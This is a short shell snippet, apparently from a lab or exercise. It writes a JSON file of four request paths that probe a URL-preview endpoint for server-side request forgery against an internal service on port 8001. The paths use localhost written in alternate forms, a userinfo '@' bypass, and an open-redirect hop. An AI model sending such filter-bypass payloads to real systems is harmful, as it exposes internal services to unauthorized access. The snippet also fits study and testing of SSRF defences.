# The office's address as it is, written otherwise, and behind an `@`; and the board's way there, which leads only the visitor.
cat > requests.json <<'END'
[{"path": "/preview?url=http://127.0.0.1:8001/word"}, {"path": "/preview?url=http://127.1:8001/word"},
 {"path": "/preview?url=http://127.0.0.1:8000@127.0.0.1:8001/word"}, {"path": "/go?to=http://127.0.0.1:8001/word"}]
END
